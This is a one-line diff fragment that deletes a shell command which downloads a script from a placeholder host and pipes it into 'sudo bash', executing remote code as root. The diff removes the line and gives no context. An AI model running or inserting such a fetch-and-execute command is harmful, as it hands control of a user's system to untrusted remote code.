@@ -1,1 +1,0 @@
-wget -qO- https://host.example/x | sudo bash
